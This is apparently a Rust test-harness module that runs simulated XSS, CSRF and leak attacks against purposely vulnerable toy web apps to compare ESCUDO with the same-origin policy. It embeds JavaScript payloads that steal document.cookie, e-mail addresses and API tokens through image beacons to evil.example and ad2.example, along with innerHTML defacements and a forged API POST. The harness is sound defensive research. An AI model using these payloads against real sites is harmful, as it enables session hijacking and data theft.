//! The scenario registry: one declarative (app × attack × policy-mode) matrix.
//!
//! Every consumer of the app fleet — the defense-effectiveness tests, the
//! experiment formatter, the examples — used to hand-wire its own app/attack
//! setups. This module replaces those with one
//! registry of [`Scenario`] descriptors: each scenario bundles an application,
//! a set of [`ScenarioCase`]s (attack or probe stagings), and the **expected
//! verdict per policy mode**. The generic executor drives a full [`Browser`]
//! session per (case × mode) cell and returns a uniform [`MatrixReport`] grid,
//! so "ESCUDO neutralizes what the same-origin policy admits" is a property of
//! the whole fleet, checked cell-by-cell, not a hand-enumerated list.
//!
//! [`registry`] currently holds six scenarios:
//!
//! * `forum` / `calendar` — the paper's §6.4 case studies, their cases
//!   generated from the [`crate::attacks`] corpus through one generic stager.
//! * `blog` — the introduction's advertising scenario (rogue ad, benign ad,
//!   comment XSS).
//! * `spa` — a single-page app whose content is script-assembled at load
//!   time, so every label on user-visible content comes from the dynamic
//!   clamp.
//! * `adnet` — N third-party ad origins injecting subresources and scripts
//!   under distinct rings (the multi-origin fabric under one page).
//! * `vault` — WebPol-style per-element policy: individually labelled DOM
//!   nodes checked leak-by-leak.

use std::fmt;
use std::sync::Arc;

use escudo_browser::{Browser, PageId, PolicyMode};
use escudo_dom::EventType;

use crate::adnet::{AdServer, NewsSite, NEWS_COOKIE};
use crate::attacker::{AttackerSite, CsrfVector};
use crate::attacks::{
    all_csrf_attacks, all_xss_attacks, CsrfAttack, TargetApp, XssAttack, XssGoal,
};
use crate::blog::{BlogApp, Comment};
use crate::calendar::{CalendarApp, CalendarConfig, Event, SESSION_COOKIE};
use crate::forum::{ForumApp, ForumConfig, Reply, Topic, SID_COOKIE};
use crate::spa::{SpaApp, SPA_COOKIE};
use crate::vault::{VaultApp, API_TOKEN, DISPLAY_NAME, EMAIL};

// ---------------------------------------------------------------------------
// Chaos hooks.

/// A configuration hook the scenario executor applies to every [`Browser`]
/// session it stages — the seam the chaos harness uses to run the whole
/// matrix under fault injection (install per-origin
/// [`FaultPlan`](escudo_net::FaultPlan)s on the session's fabric, set a
/// [`FetchPolicy`](escudo_net::FetchPolicy), collect the fabric handle for
/// counter audits). A hook configures the *transport*; it runs before any
/// application is registered or any page is staged, and it cannot touch
/// mediation — which is exactly the point: the matrix's verdicts must come
/// out identical with or without one.
pub type ChaosHook = Arc<dyn Fn(&mut Browser) + Send + Sync>;

thread_local! {
    static CHAOS_HOOK: std::cell::RefCell<Option<ChaosHook>> =
        const { std::cell::RefCell::new(None) };
}

/// Installs a [`ChaosHook`] for the current thread and returns a guard that
/// restores the previous hook (if any) when dropped. Thread-local on purpose:
/// [`MatrixReport::run`] stages its cells single-threaded, so a thread-local
/// hook makes a chaos run exactly as deterministic as a clean one, and two
/// tests injecting different chaos never race each other's hooks.
pub fn install_chaos_hook(hook: ChaosHook) -> ChaosGuard {
    let previous = CHAOS_HOOK.with(|slot| slot.borrow_mut().replace(hook));
    ChaosGuard {
        previous,
        _not_send: std::marker::PhantomData,
    }
}

/// RAII guard for an installed [`ChaosHook`]; dropping it restores whatever
/// hook (or none) was installed before.
pub struct ChaosGuard {
    previous: Option<ChaosHook>,
    /// The hook slot is thread-local; sending the guard across threads would
    /// restore the wrong thread's slot.
    _not_send: std::marker::PhantomData<*const ()>,
}

impl Drop for ChaosGuard {
    fn drop(&mut self) {
        let previous = self.previous.take();
        CHAOS_HOOK.with(|slot| *slot.borrow_mut() = previous);
    }
}

impl fmt::Debug for ChaosGuard {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        f.debug_struct("ChaosGuard")
            .field("restores_previous", &self.previous.is_some())
            .finish()
    }
}

/// Creates the [`Browser`] session for one matrix cell: a fresh browser for
/// `mode`, passed through the thread's installed [`ChaosHook`] (if any)
/// before any staging happens. Every stager in this module builds its
/// sessions here, so one installed hook covers the entire registry.
#[must_use]
pub fn session_browser(mode: PolicyMode) -> Browser {
    let mut browser = Browser::new(mode);
    CHAOS_HOOK.with(|slot| {
        if let Some(hook) = slot.borrow().as_ref() {
            hook(&mut browser);
        }
    });
    browser
}

// ---------------------------------------------------------------------------
// Verdicts and expectations.

/// What happened (or should happen) to one case under one policy mode.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub enum Verdict {
    /// The case achieved its goal (an attack landed, or a probe worked).
    Succeeds,
    /// The case was stopped by the enforcement in effect.
    Neutralized,
}

impl Verdict {
    /// The verdict observed from a staged run.
    #[must_use]
    pub fn from_success(succeeded: bool) -> Self {
        if succeeded {
            Verdict::Succeeds
        } else {
            Verdict::Neutralized
        }
    }
}

impl fmt::Display for Verdict {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        match self {
            Verdict::Succeeds => write!(f, "succeeds"),
            Verdict::Neutralized => write!(f, "neutralized"),
        }
    }
}

/// The expected verdict of one case under **each** policy mode. Both fields
/// are mandatory by construction, so no registry entry can lack an expectation
/// for a mode.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub struct Expectation {
    /// Expected verdict under the same-origin baseline.
    pub sop: Verdict,
    /// Expected verdict under ESCUDO.
    pub escudo: Verdict,
}

impl Expectation {
    /// The paper's headline shape: the same-origin policy admits the attack,
    /// ESCUDO neutralizes it.
    #[must_use]
    pub fn defended() -> Self {
        Expectation {
            sop: Verdict::Succeeds,
            escudo: Verdict::Neutralized,
        }
    }

    /// A compatibility probe: legitimate behaviour that must keep working
    /// under both modes.
    #[must_use]
    pub fn harmless() -> Self {
        Expectation {
            sop: Verdict::Succeeds,
            escudo: Verdict::Succeeds,
        }
    }

    /// The expected verdict under `mode`.
    #[must_use]
    pub fn expected(&self, mode: PolicyMode) -> Verdict {
        match mode {
            PolicyMode::SameOriginOnly => self.sop,
            PolicyMode::Escudo => self.escudo,
        }
    }
}

/// What kind of cell this is — an attack class or a compatibility probe.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub enum CaseKind {
    /// Cross-site scripting (injected content misbehaving inside the page).
    Xss,
    /// Cross-site request forgery (a foreign page riding the session).
    Csrf,
    /// Confidentiality: reading a labelled value and exfiltrating it.
    Leak,
    /// Legitimate behaviour that must survive enforcement.
    Probe,
}

impl fmt::Display for CaseKind {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        match self {
            CaseKind::Xss => write!(f, "xss"),
            CaseKind::Csrf => write!(f, "csrf"),
            CaseKind::Leak => write!(f, "leak"),
            CaseKind::Probe => write!(f, "probe"),
        }
    }
}

/// Coarse workload shape tags, for slicing the matrix in reports.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub enum WorkloadTag {
    /// The §6.4 case-study shape: server-rendered pages, planted payloads.
    Classic,
    /// Page content assembled by the script interpreter at load time.
    ScriptAssembled,
    /// Many third-party origins contributing subresources and scripts.
    MultiOrigin,
    /// Policies attached to individual DOM nodes, not regions.
    PerElement,
}

// ---------------------------------------------------------------------------
// Cases, scenarios and the executor.

/// The measured result of driving one cell: did the case achieve its goal,
/// and what did mediation cost?
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub struct CellRun {
    /// Did the case achieve its goal?
    pub succeeded: bool,
    /// Reference-monitor checks performed over the whole session.
    pub checks: u64,
    /// Reference-monitor denials recorded over the whole session.
    pub denials: u64,
}

/// One case of a scenario: a staging closure plus its expected verdicts.
#[derive(Clone)]
pub struct ScenarioCase {
    /// Unique case identifier, e.g. `forum-xss-1` or `vault-leak-token`.
    pub id: String,
    /// Human-readable description.
    pub name: String,
    /// Attack class or probe.
    pub kind: CaseKind,
    /// Expected verdict per policy mode.
    pub expected: Expectation,
    run: Arc<dyn Fn(PolicyMode) -> CellRun + Send + Sync>,
}

impl fmt::Debug for ScenarioCase {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        f.debug_struct("ScenarioCase")
            .field("id", &self.id)
            .field("kind", &self.kind)
            .field("expected", &self.expected)
            .finish()
    }
}

impl ScenarioCase {
    /// Builds a case from a staging closure.
    pub fn new(
        id: &str,
        name: &str,
        kind: CaseKind,
        expected: Expectation,
        run: impl Fn(PolicyMode) -> CellRun + Send + Sync + 'static,
    ) -> Self {
        ScenarioCase {
            id: id.to_string(),
            name: name.to_string(),
            kind,
            expected,
            run: Arc::new(run),
        }
    }

    /// Drives the staging under `mode`, one fresh browser session per call.
    #[must_use]
    pub fn run(&self, mode: PolicyMode) -> CellRun {
        (self.run)(mode)
    }
}

/// One registry entry: an application with its served pages and attack set.
#[derive(Debug, Clone)]
pub struct Scenario {
    /// Scenario identifier, e.g. `forum`.
    pub id: &'static str,
    /// Human-readable name.
    pub name: &'static str,
    /// Workload shape tags.
    pub tags: Vec<WorkloadTag>,
    /// The scenario's cases.
    pub cases: Vec<ScenarioCase>,
}

/// One cell of the executed matrix.
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct ScenarioOutcome {
    /// The scenario the cell belongs to.
    pub scenario: &'static str,
    /// The case identifier.
    pub case: String,
    /// The case's human-readable name.
    pub name: String,
    /// Attack class or probe.
    pub kind: CaseKind,
    /// The policy mode the cell ran under.
    pub mode: PolicyMode,
    /// The verdict the registry expects for this mode.
    pub expected: Verdict,
    /// The verdict the staging observed.
    pub observed: Verdict,
    /// Reference-monitor checks over the cell's session (mediation cost).
    pub checks: u64,
    /// Reference-monitor denials over the cell's session.
    pub denials: u64,
}

impl ScenarioOutcome {
    /// `true` when the observed verdict matches the expected one.
    #[must_use]
    pub fn as_expected(&self) -> bool {
        self.expected == self.observed
    }
}

impl fmt::Display for ScenarioOutcome {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        write!(
            f,
            "{:<8} {:<24} [{:<11}] {:>12}{}",
            self.scenario,
            self.case,
            self.mode,
            self.observed.to_string(),
            if self.as_expected() {
                ""
            } else {
                "  ** UNEXPECTED **"
            }
        )
    }
}

/// The executed (scenario × case × mode) grid.
#[derive(Debug, Clone, Default)]
pub struct MatrixReport {
    /// One outcome per cell, in registry order (scenario, case, SOP then
    /// ESCUDO).
    pub outcomes: Vec<ScenarioOutcome>,
}

impl MatrixReport {
    /// Runs the given scenarios under both policy modes.
    #[must_use]
    pub fn run(scenarios: &[Scenario]) -> Self {
        let mut outcomes = Vec::new();
        for scenario in scenarios {
            for case in &scenario.cases {
                for mode in [PolicyMode::SameOriginOnly, PolicyMode::Escudo] {
                    let cell = case.run(mode);
                    outcomes.push(ScenarioOutcome {
                        scenario: scenario.id,
                        case: case.id.clone(),
                        name: case.name.clone(),
                        kind: case.kind,
                        mode,
                        expected: case.expected.expected(mode),
                        observed: Verdict::from_success(cell.succeeded),
                        checks: cell.checks,
                        denials: cell.denials,
                    });
                }
            }
        }
        MatrixReport { outcomes }
    }

    /// Runs the full built-in [`registry`].
    #[must_use]
    pub fn run_registry() -> Self {
        MatrixReport::run(&registry())
    }

    /// Number of executed cells.
    #[must_use]
    pub fn cells(&self) -> usize {
        self.outcomes.len()
    }

    /// Cells whose observed verdict differs from the expected one.
    #[must_use]
    pub fn unexpected(&self) -> Vec<&ScenarioOutcome> {
        self.outcomes.iter().filter(|o| !o.as_expected()).collect()
    }

    /// Cells for one policy mode.
    #[must_use]
    pub fn for_mode(&self, mode: PolicyMode) -> Vec<&ScenarioOutcome> {
        self.outcomes.iter().filter(|o| o.mode == mode).collect()
    }

    /// Cells of one scenario.
    #[must_use]
    pub fn for_scenario(&self, id: &str) -> Vec<&ScenarioOutcome> {
        self.outcomes.iter().filter(|o| o.scenario == id).collect()
    }

    /// Cells observed `Succeeds` under the given mode.
    #[must_use]
    pub fn successes(&self, mode: PolicyMode) -> usize {
        self.for_mode(mode)
            .iter()
            .filter(|o| o.observed == Verdict::Succeeds)
            .count()
    }

    /// Cells observed `Neutralized` under the given mode.
    #[must_use]
    pub fn neutralized(&self, mode: PolicyMode) -> usize {
        self.for_mode(mode)
            .iter()
            .filter(|o| o.observed == Verdict::Neutralized)
            .count()
    }

    /// Total reference-monitor checks across the mode's cells (mediation
    /// cost).
    #[must_use]
    pub fn total_checks(&self, mode: PolicyMode) -> u64 {
        self.for_mode(mode).iter().map(|o| o.checks).sum()
    }

    /// Total reference-monitor denials across the mode's cells.
    #[must_use]
    pub fn total_denials(&self, mode: PolicyMode) -> u64 {
        self.for_mode(mode).iter().map(|o| o.denials).sum()
    }
}

fn cell_run(browser: &Browser, succeeded: bool) -> CellRun {
    CellRun {
        succeeded,
        checks: browser.erm().checks(),
        denials: browser.erm().denials(),
    }
}

// ---------------------------------------------------------------------------
// Generic §6.4 staging (forum + calendar through one stager).

/// The app-specific surface one XSS staging needs — everything else is shared.
struct XssTarget {
    origin: &'static str,
    content_path: &'static str,
    cookie_name: &'static str,
    deface_element: &'static str,
    acted: Box<dyn Fn() -> bool>,
}

fn install_xss_target(browser: &mut Browser, attack: &XssAttack) -> XssTarget {
    match attack.app {
        TargetApp::Forum => {
            let forum = ForumApp::new(ForumConfig::vulnerable());
            let state = forum.state();
            {
                // A topic authored by the victim plus the attacker's payload
                // as a reply (input validation is off, as in the paper).
                let mut forum_state = state.lock().expect("app state lock");
                forum_state.topics.push(Topic {
                    id: 1,
                    title: "Welcome".to_string(),
                    author: "victim".to_string(),
                    body: "original message".to_string(),
                });
                forum_state.replies.push(Reply {
                    id: 1,
                    topic_id: 1,
                    author: "mallory".to_string(),
                    body: attack.payload.clone(),
                });
            }
            browser.fabric().register("http://forum.example", forum);
            XssTarget {
                origin: "http://forum.example",
                content_path: "/viewtopic.php?t=1",
                cookie_name: SID_COOKIE,
                deface_element: "topic-1",
                acted: Box::new(move || {
                    state
                        .lock()
                        .expect("app state lock")
                        .topics
                        .iter()
                        .any(|t| t.title == "xss-spam" && t.author == "victim")
                }),
            }
        }
        TargetApp::Calendar => {
            let calendar = CalendarApp::new(CalendarConfig::vulnerable());
            let state = calendar.state();
            {
                let mut calendar_state = state.lock().expect("app state lock");
                calendar_state.events.push(Event {
                    id: 1,
                    day: 10,
                    title: "Welcome party".to_string(),
                    description: "original description".to_string(),
                    author: "victim".to_string(),
                });
                calendar_state.events.push(Event {
                    id: 2,
                    day: 11,
                    title: "Potluck".to_string(),
                    description: attack.payload.clone(),
                    author: "mallory".to_string(),
                });
            }
            browser
                .fabric()
                .register("http://calendar.example", calendar);
            XssTarget {
                origin: "http://calendar.example",
                content_path: "/index.php",
                cookie_name: SESSION_COOKIE,
                deface_element: "event-1",
                acted: Box::new(move || {
                    state
                        .lock()
                        .expect("app state lock")
                        .events
                        .iter()
                        .any(|e| e.title == "xss-event" && e.author == "victim")
                }),
            }
        }
    }
}

/// Stages one corpus XSS attack under one policy mode: victim login, payload
/// already planted, victim views the content page, goal probed.
#[must_use]
pub fn stage_xss(mode: PolicyMode, attack: &XssAttack) -> CellRun {
    let attacker = AttackerSite::new();
    let stolen = attacker.stolen();

    let mut browser = session_browser(mode);
    let target = install_xss_target(&mut browser, attack);
    browser.fabric().register("http://evil.example", attacker);

    browser
        .navigate(&format!("{}/login.php?user=victim", target.origin))
        .expect("victim login");
    let page = browser
        .navigate(&format!("{}{}", target.origin, target.content_path))
        .expect("victim views the content page");
    if let Some((element, event)) = attack.trigger_event {
        let event: EventType = event.parse().expect("known event type");
        let _ = browser.fire_event(page, element, event);
    }

    let succeeded = match attack.goal {
        XssGoal::ActOnBehalfOfVictim => (target.acted)(),
        XssGoal::ModifyExistingContent => browser
            .page(page)
            .text_of(target.deface_element)
            .is_some_and(|text| text.contains("defaced by xss")),
        XssGoal::StealSessionCookie => stolen
            .lock()
            .expect("app state lock")
            .iter()
            .any(|query| query.contains(target.cookie_name)),
        XssGoal::HandlerDefacement => browser
            .page(page)
            .text_of("app-status")
            .is_some_and(|text| text.contains("xss-by-handler")),
    };
    cell_run(&browser, succeeded)
}

/// The app-specific surface one CSRF staging needs.
struct CsrfTarget {
    origin: &'static str,
    forged: Box<dyn Fn(&str) -> bool>,
}

fn install_csrf_target(browser: &mut Browser, attack: &CsrfAttack) -> CsrfTarget {
    match attack.app {
        TargetApp::Forum => {
            let forum = ForumApp::new(ForumConfig::vulnerable());
            let state = forum.state();
            state.lock().expect("app state lock").topics.push(Topic {
                id: 1,
                title: "Welcome".to_string(),
                author: "victim".to_string(),
                body: "original message".to_string(),
            });
            browser.fabric().register("http://forum.example", forum);
            CsrfTarget {
                origin: "http://forum.example",
                forged: Box::new(move |marker| {
                    let forum_state = state.lock().expect("app state lock");
                    forum_state
                        .topics
                        .iter()
                        .any(|t| t.title.contains(marker) && t.author == "victim")
                        || forum_state
                            .replies
                            .iter()
                            .any(|r| r.body.contains(marker) && r.author == "victim")
                        || forum_state
                            .private_messages
                            .iter()
                            .any(|p| p.body.contains(marker) && p.from == "victim")
                }),
            }
        }
        TargetApp::Calendar => {
            let calendar = CalendarApp::new(CalendarConfig::vulnerable());
            let state = calendar.state();
            state.lock().expect("app state lock").events.push(Event {
                id: 1,
                day: 10,
                title: "Welcome party".to_string(),
                description: "original description".to_string(),
                author: "victim".to_string(),
            });
            browser
                .fabric()
                .register("http://calendar.example", calendar);
            CsrfTarget {
                origin: "http://calendar.example",
                forged: Box::new(move |marker| {
                    state
                        .lock()
                        .expect("app state lock")
                        .events
                        .iter()
                        .any(|e| {
                            e.author == "victim"
                                && (e.title.contains(marker) || e.description.contains(marker))
                        })
                }),
            }
        }
    }
}

/// Stages one corpus CSRF attack under one policy mode: victim logs into the
/// trusted site, then visits the attacker page carrying the forged request.
#[must_use]
pub fn stage_csrf(mode: PolicyMode, attack: &CsrfAttack) -> CellRun {
    let attacker = AttackerSite::with_csrf(attack.vector.clone());

    let mut browser = session_browser(mode);
    let target = install_csrf_target(&mut browser, attack);
    browser.fabric().register("http://evil.example", attacker);

    browser
        .navigate(&format!("{}/login.php?user=victim", target.origin))
        .expect("victim login");
    let page = browser
        .navigate("http://evil.example/csrf")
        .expect("victim visits the attacker page");
    if matches!(attack.vector, CsrfVector::FormPost { .. }) {
        let _ = browser.submit_form(page, "csrf-form", &[]);
    }

    let succeeded = (target.forged)(attack.marker);
    cell_run(&browser, succeeded)
}

// ---------------------------------------------------------------------------
// Scenario builders.

fn classic_scenario(app: TargetApp) -> Scenario {
    let (id, name) = match app {
        TargetApp::Forum => ("forum", "phpBB-like forum (§6.4)"),
        TargetApp::Calendar => ("calendar", "PHP-Calendar-like calendar (§6.4)"),
    };
    let mut cases = Vec::new();
    for attack in all_xss_attacks().into_iter().filter(|a| a.app == app) {
        let staged = attack.clone();
        cases.push(ScenarioCase::new(
            attack.id,
            attack.name,
            CaseKind::Xss,
            Expectation::defended(),
            move |mode| stage_xss(mode, &staged),
        ));
    }
    for attack in all_csrf_attacks().into_iter().filter(|a| a.app == app) {
        let staged = attack.clone();
        cases.push(ScenarioCase::new(
            attack.id,
            attack.name,
            CaseKind::Csrf,
            Expectation::defended(),
            move |mode| stage_csrf(mode, &staged),
        ));
    }
    Scenario {
        id,
        name,
        tags: vec![WorkloadTag::Classic],
        cases,
    }
}

fn blog_scenario() -> Scenario {
    let benign = ScenarioCase::new(
        "blog-benign-ad",
        "a well-behaved ad restyles its own ring-2 slot",
        CaseKind::Probe,
        Expectation::harmless(),
        |mode| {
            let mut browser = session_browser(mode);
            browser
                .fabric()
                .register("http://blog.example", BlogApp::new());
            let page = browser
                .navigate("http://blog.example/")
                .expect("reader opens the blog");
            let succeeded = browser
                .page(page)
                .text_of("ad-slot-text")
                .is_some_and(|text| text.contains("Buy more rust!"));
            cell_run(&browser, succeeded)
        },
    );
    let rogue = ScenarioCase::new(
        "blog-rogue-ad",
        "a rogue ad rewrites the publisher's post",
        CaseKind::Xss,
        Expectation::defended(),
        |mode| {
            let app = BlogApp::new().with_ad_script(
                "var post = document.getElementById('post-body');\
                 post.innerHTML = 'ad takeover';",
            );
            let mut browser = session_browser(mode);
            browser.fabric().register("http://blog.example", app);
            let page = browser
                .navigate("http://blog.example/")
                .expect("reader opens the blog");
            let succeeded = browser
                .page(page)
                .text_of("post-body")
                .is_some_and(|text| text.contains("ad takeover"));
            cell_run(&browser, succeeded)
        },
    );
    let comment = ScenarioCase::new(
        "blog-comment-xss",
        "a script in a ring-3 comment rewrites the publisher's post",
        CaseKind::Xss,
        Expectation::defended(),
        |mode| {
            let app = BlogApp::new();
            let state = app.state();
            state
                .lock()
                .expect("app state lock")
                .comments
                .push(Comment {
                    id: 1,
                    author: "mallory".to_string(),
                    body: "<script>document.getElementById('post-body').innerHTML = \
                       'defaced by comment';</script>"
                        .to_string(),
                });
            let mut browser = session_browser(mode);
            browser.fabric().register("http://blog.example", app);
            let page = browser
                .navigate("http://blog.example/")
                .expect("reader opens the blog");
            let succeeded = browser
                .page(page)
                .text_of("post-body")
                .is_some_and(|text| text.contains("defaced by comment"));
            cell_run(&browser, succeeded)
        },
    );
    Scenario {
        id: "blog",
        name: "blog with a leased ad slot (Figure 3)",
        tags: vec![WorkloadTag::Classic],
        cases: vec![benign, rogue, comment],
    }
}

fn spa_session(mode: PolicyMode, app: SpaApp) -> (Browser, PageId) {
    let mut browser = session_browser(mode);
    browser.fabric().register("http://spa.example", app);
    browser
        .fabric()
        .register("http://evil.example", AttackerSite::new());
    browser
        .navigate("http://spa.example/login?user=victim")
        .expect("victim login");
    let page = browser
        .navigate("http://spa.example/")
        .expect("victim opens the app");
    (browser, page)
}

fn spa_scenario() -> Scenario {
    let boot = ScenarioCase::new(
        "spa-boot",
        "the ring-1 bootstrap assembles the page at load time",
        CaseKind::Probe,
        Expectation::harmless(),
        |mode| {
            let (browser, page) = spa_session(mode, SpaApp::new());
            let page = browser.page(page);
            let succeeded = page
                .text_of("status")
                .is_some_and(|text| text.contains("ready"))
                && page
                    .text_of("note-1")
                    .is_some_and(|text| text.contains("first note"));
            cell_run(&browser, succeeded)
        },
    );
    let deface = ScenarioCase::new(
        "spa-widget-deface",
        "a ring-3 widget rewrites script-assembled ring-1 content",
        CaseKind::Xss,
        Expectation::defended(),
        |mode| {
            let app = SpaApp::new().with_widget(
                "var note = document.getElementById('note-1');\
                 note.innerHTML = 'defaced by widget';",
            );
            let (browser, page) = spa_session(mode, app);
            let succeeded = browser
                .page(page)
                .text_of("note-1")
                .is_some_and(|text| text.contains("defaced by widget"));
            cell_run(&browser, succeeded)
        },
    );
    let steal = ScenarioCase::new(
        "spa-widget-steal",
        "a ring-3 widget exfiltrates the session cookie",
        CaseKind::Leak,
        Expectation::defended(),
        |mode| {
            let app = SpaApp::new().with_widget(
                "var loot = document.cookie;\
                 var beacon = document.createElement('img');\
                 beacon.setAttribute('src', 'http://evil.example/steal?c=' + loot);\
                 document.body.appendChild(beacon);",
            );
            // Register a dedicated attacker so this cell reads its own log.
            let attacker = AttackerSite::new();
            let stolen = attacker.stolen();
            let mut browser = session_browser(mode);
            browser.fabric().register("http://spa.example", app);
            browser.fabric().register("http://evil.example", attacker);
            browser
                .navigate("http://spa.example/login?user=victim")
                .expect("victim login");
            browser
                .navigate("http://spa.example/")
                .expect("victim opens the app");
            let succeeded = stolen
                .lock()
                .expect("app state lock")
                .iter()
                .any(|query| query.contains(SPA_COOKIE));
            cell_run(&browser, succeeded)
        },
    );
    let save = ScenarioCase::new(
        "spa-widget-save",
        "a ring-3 widget saves notes through the API on the victim's session",
        CaseKind::Xss,
        Expectation::defended(),
        |mode| {
            let app = SpaApp::new().with_widget(
                "var xhr = new XMLHttpRequest();\
                 xhr.open('POST', '/api/save');\
                 xhr.send('note=widget-spam');",
            );
            let state = app.state();
            let (browser, _) = spa_session(mode, app);
            let succeeded = state
                .lock()
                .expect("app state lock")
                .saved
                .iter()
                .any(|note| note.author == "victim" && note.note == "widget-spam");
            cell_run(&browser, succeeded)
        },
    );
    Scenario {
        id: "spa",
        name: "script-assembled single-page app",
        tags: vec![WorkloadTag::ScriptAssembled],
        cases: vec![boot, deface, steal, save],
    }
}

/// Number of third-party ad origins in the ad-network scenario.
pub const AD_SLOTS: usize = 4;
/// The slot the rogue network leases in the attack cases.
const ROGUE_SLOT: usize = 2;

fn adnet_session(mode: PolicyMode, site: NewsSite) -> (Browser, PageId, Vec<AdServerHandles>) {
    let mut browser = session_browser(mode);
    let mut handles = Vec::new();
    for i in 0..AD_SLOTS {
        let server = AdServer::new();
        handles.push(AdServerHandles {
            banners_served: server.banners_served(),
            stolen: server.stolen(),
        });
        browser.fabric().register(&NewsSite::ad_origin(i), server);
    }
    browser.fabric().register("http://news.example", site);
    browser
        .navigate("http://news.example/login?user=victim")
        .expect("victim login");
    let page = browser
        .navigate("http://news.example/")
        .expect("victim opens the front page");
    (browser, page, handles)
}

struct AdServerHandles {
    banners_served: Arc<std::sync::Mutex<u64>>,
    stolen: Arc<std::sync::Mutex<Vec<String>>>,
}

fn adnet_scenario() -> Scenario {
    let banners = ScenarioCase::new(
        "adnet-banners",
        "all third-party banners load and benign ads restyle their slots",
        CaseKind::Probe,
        Expectation::harmless(),
        |mode| {
            let (browser, page, handles) = adnet_session(mode, NewsSite::new(AD_SLOTS));
            let page = browser.page(page);
            // The login redirect renders the front page once already, so each
            // banner has been fetched at least once, possibly twice.
            let all_fetched = handles
                .iter()
                .all(|h| *h.banners_served.lock().expect("app state lock") > 0)
                && page
                    .subresources
                    .iter()
                    .filter(|s| s.url.path() == "/banner.png")
                    .all(|s| s.succeeded());
            let all_restyled = (0..AD_SLOTS).all(|i| {
                page.text_of(&format!("ad-text-{i}"))
                    .is_some_and(|text| text.contains(&format!("buy things from ad{i}")))
            });
            cell_run(&browser, all_fetched && all_restyled)
        },
    );
    let deface = ScenarioCase::new(
        "adnet-rogue-deface",
        "a rogue ad network rewrites the publisher's headline",
        CaseKind::Xss,
        Expectation::defended(),
        |mode| {
            let site = NewsSite::new(AD_SLOTS).with_rogue_slot(
                ROGUE_SLOT,
                "var headline = document.getElementById('headline');\
                 headline.innerHTML = 'ads rule the news';",
            );
            let (browser, page, _) = adnet_session(mode, site);
            let succeeded = browser
                .page(page)
                .text_of("headline")
                .is_some_and(|text| text.contains("ads rule the news"));
            cell_run(&browser, succeeded)
        },
    );
    let steal = ScenarioCase::new(
        "adnet-rogue-steal",
        "a rogue ad network exfiltrates the session cookie to its own origin",
        CaseKind::Leak,
        Expectation::defended(),
        |mode| {
            let site = NewsSite::new(AD_SLOTS).with_rogue_slot(
                ROGUE_SLOT,
                "var loot = document.cookie;\
                 var beacon = document.createElement('img');\
                 beacon.setAttribute('src', 'http://ad2.example/steal?c=' + loot);\
                 document.body.appendChild(beacon);",
            );
            let (browser, _, handles) = adnet_session(mode, site);
            let succeeded = handles[ROGUE_SLOT]
                .stolen
                .lock()
                .expect("app state lock")
                .iter()
                .any(|query| query.contains(NEWS_COOKIE));
            cell_run(&browser, succeeded)
        },
    );
    Scenario {
        id: "adnet",
        name: "news publisher with N third-party ad origins",
        tags: vec![WorkloadTag::MultiOrigin],
        cases: vec![banners, deface, steal],
    }
}

fn vault_session(
    mode: PolicyMode,
    app: VaultApp,
) -> (Browser, PageId, Arc<std::sync::Mutex<Vec<String>>>) {
    let attacker = AttackerSite::new();
    let stolen = attacker.stolen();
    let mut browser = session_browser(mode);
    browser.fabric().register("http://vault.example", app);
    browser.fabric().register("http://evil.example", attacker);
    browser
        .navigate("http://vault.example/login?user=pat")
        .expect("owner login");
    let page = browser
        .navigate("http://vault.example/profile")
        .expect("owner opens the profile");
    (browser, page, stolen)
}

fn vault_scenario() -> Scenario {
    let read_public = ScenarioCase::new(
        "vault-read-public",
        "the gadget reads the public display name (per-element ring 3)",
        CaseKind::Probe,
        Expectation::harmless(),
        |mode| {
            let app = VaultApp::new().with_gadget(
                "var name = document.getElementById('display-name').textContent;\
                 var out = document.getElementById('gadget-out');\
                 out.innerHTML = 'hello ' + name;",
            );
            let (browser, page, _) = vault_session(mode, app);
            let succeeded = browser
                .page(page)
                .text_of("gadget-out")
                .is_some_and(|text| text.contains(DISPLAY_NAME));
            cell_run(&browser, succeeded)
        },
    );
    let leak_email = ScenarioCase::new(
        "vault-leak-email",
        "the gadget leaks the confidential e-mail (per-element ring 2)",
        CaseKind::Leak,
        Expectation::defended(),
        |mode| {
            let app = VaultApp::new().with_gadget(
                "var loot = document.getElementById('email').textContent;\
                 var beacon = document.createElement('img');\
                 beacon.setAttribute('src', 'http://evil.example/steal?c=' + loot);\
                 document.body.appendChild(beacon);",
            );
            let (browser, _, stolen) = vault_session(mode, app);
            let succeeded = stolen
                .lock()
                .expect("app state lock")
                .iter()
                .any(|query| query.contains(EMAIL));
            cell_run(&browser, succeeded)
        },
    );
    let leak_token = ScenarioCase::new(
        "vault-leak-token",
        "the gadget leaks the secret API token (per-element ring 1)",
        CaseKind::Leak,
        Expectation::defended(),
        |mode| {
            let app = VaultApp::new().with_gadget(
                "var loot = document.getElementById('api-token').textContent;\
                 var beacon = document.createElement('img');\
                 beacon.setAttribute('src', 'http://evil.example/steal?c=' + loot);\
                 document.body.appendChild(beacon);",
            );
            let (browser, _, stolen) = vault_session(mode, app);
            let succeeded = stolen
                .lock()
                .expect("app state lock")
                .iter()
                .any(|query| query.contains(API_TOKEN));
            cell_run(&browser, succeeded)
        },
    );
    let overwrite = ScenarioCase::new(
        "vault-overwrite-token",
        "the gadget overwrites the secret API token in place",
        CaseKind::Xss,
        Expectation::defended(),
        |mode| {
            let app = VaultApp::new().with_gadget(
                "var token = document.getElementById('api-token');\
                 token.innerHTML = 'tok-hijacked';",
            );
            let (browser, page, _) = vault_session(mode, app);
            let succeeded = browser
                .page(page)
                .text_of("api-token")
                .is_some_and(|text| text.contains("tok-hijacked"));
            cell_run(&browser, succeeded)
        },
    );
    Scenario {
        id: "vault",
        name: "per-element policy vault (WebPol-style)",
        tags: vec![WorkloadTag::PerElement],
        cases: vec![read_public, leak_email, leak_token, overwrite],
    }
}

